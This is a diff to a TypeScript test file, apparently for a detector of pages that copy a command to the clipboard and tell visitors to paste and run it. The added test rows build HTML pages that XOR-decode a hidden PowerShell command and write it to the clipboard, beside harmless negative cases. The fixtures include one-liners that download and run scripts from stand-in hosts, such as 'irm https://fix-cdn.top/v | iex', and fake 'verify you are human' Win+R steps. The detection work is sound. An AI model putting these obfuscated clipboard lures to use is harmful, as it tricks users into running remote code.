@@ -10,6 +10,10 @@ const ENC = Buffer.from('iex (iwr "https://verify-cdn.top/c.ps1").Content', 'utf
 const page = (body: string): string => `<!DOCTYPE html><html><head><title>Page</title></head><body>${body}</body></html>`;
 const CMD = 'powershell -w hidden -c "irm https://fix-cdn.top/v | iex"';
 const codes = (t: string): string => [...t].map((c) => c.charCodeAt(0)).join(',');
+/** The codes of `t` XORed with `key` (a number, or a string's codes in turn), as a list (session 23). */
+const xored = (t: string, key: number | string): number[] => [...t].map((c, i) => c.charCodeAt(0) ^ (typeof key === 'number' ? key : key.charCodeAt(i % key.length)));
+/** `t` XORed with `key`, written as a JavaScript string literal of \u escapes. */
+const xoredLiteral = (t: string, key: number): string => `"${xored(t, key).map((c) => `\\u${c.toString(16).padStart(4, '0')}`).join('')}"`;
 const STEPS_EN = '<p>To verify you are human: 1. Press <kbd>Windows</kbd> + <kbd>R</kbd> 2. Press <kbd>Ctrl</kbd> + <kbd>V</kbd> 3. Press Enter</p>';
 
 /**
@@ -37,7 +41,13 @@ const rows: [name: string, html: string, copies: boolean, instructs: boolean][] 
   ['variables joined in the clipboard write (a + b + d)', page(`<script>const a = "powersh";\nconst b = 'ell -c iwr v.top/s -useb | i';\nconst d = 'ex';\nnavigator.clipboard.writeText(a + b + d);</script>`), true, false],
   ['a variable between two literals (\'…\' + host + \'…\'), copied from a hidden textarea', page(`<textarea id="t"></textarea><script>const t = "ta";\nconst c = "msh" + t + " https://v.top/a.hta";\nvar t = document.getElementById('t'); t.value = c; t.select(); document.execCommand('copy');</script>`), true, false],
   ['the "fix the error" steps: Copy fix, Win+X, PowerShell (the command not readable)', page('<h2>Error 0x80070643</h2><button onclick="f()">Copy fix</button><p>How to fix: the fix has been copied. Press Win + X, open Windows PowerShell (Admin), paste with Ctrl + V and press Enter.</p><script>navigator.clipboard.writeText(x)</script>'), false, true],
+  // Session 23: the command encrypted with XOR and decoded by the page as it copies.
+  ['codes XORed with a number, decoded through fromCharCode(c ^ 23)', page(`<script>var d = [${xored(CMD, 23).join(',')}]; var c = d.map(function (x) { return String.fromCharCode(x ^ 23); }).join(''); navigator.clipboard.writeText(c);</script>`), true, false],
+  ['a string XORed with 0x5a, decoded through charCodeAt(i) ^ 0x5a', page(`<script>var e = ${xoredLiteral(CMD, 0x5a)}; var r = ''; for (var i = 0; i < e.length; i++) r += String.fromCharCode(e.charCodeAt(i) ^ 0x5a); navigator.clipboard.writeText(r);</script>`), true, false],
+  ['codes XORed with a key string, k.charCodeAt(i % k.length)', page(`<script>var k = "v3rIfy"; var d = [${xored(CMD, 'v3rIfy').join(', ')}]; var r = ''; for (var i = 0; i < d.length; i++) r += String.fromCharCode(d[i] ^ k.charCodeAt(i % k.length)); navigator.clipboard.writeText(r);</script>${STEPS_EN}`), true, true],
   // Must not.
+  ['a coupon code XORed with a number and copied', page(`<script>var d = [${xored('SAVE20-NW-2291', 23).join(',')}]; navigator.clipboard.writeText(d.map(function (x) { return String.fromCharCode(x ^ 23); }).join(''));</script>`), false, false],
+  ['a checksum routine (charCodeAt, ^ 0xedb8) beside a copied order number', page(`<script>function h(s) { var c = 0; for (var i = 0; i < s.length; i++) c = (c >>> 1) ^ (s.charCodeAt(i) ^ 0xedb8); return c; } navigator.clipboard.writeText('Order 2291 / ' + h('2291'));</script>`), false, false],
   ['an address spelled in character codes and copied', page(`<script>var e = String.fromCharCode(${codes('info@northwind-supplies.com')}); navigator.clipboard.writeText(e);</script>`), false, false],
   ['a command sample built over statements: npm install', page(`<script>let c = "npm ";\nc += 'install left-pad';\nnavigator.clipboard.writeText(c);</script>`), false, false],
   ['numbers on a page that calls fromCharCode: a chart\'s data', page('<script>var d = [12, 40, 33, 58, 61, 70, 72, 90, 101, 99]; var s = String.fromCharCode(65); navigator.clipboard.writeText(d.join(","));</script>'), false, false],
@@ -76,6 +86,8 @@ test('paste-and-run page: linear in the page (quotes, tags, references, launcher
     `navigator.clipboard.writeText('powershell x') `, 'execCommand("copy") mshta ', 'QUJD', 'win + r ctrl + v ',
     // Session 19: assignments, code lists, clipboard writes of variables, the other launchers.
     `c += 'a'; `, `c = c + "a"; `, 'a = b + ', 'x = ', '1,2,3,', '0x41, ', 'fromCharCode(', 'writeText(a + b + ', 'writeText(a) ', 'powershell paste fix copied ',
+    // Session 23: XOR keys and their inputs.
+    '.charCodeAt(i) ^ 7 ', `k.charCodeAt(i % k.length) k = 'abcdefgh'; `, `^ 0x5a 'abcdefghij' `, '1,2,3,4,5,6,7,8,9 ^ 3 ',
   ];
   for (const unit of units) {
     const make = (n: number): string => `<script>navigator.clipboard.writeText(x)</script>${unit.repeat(Math.ceil(n / unit.length))}`;
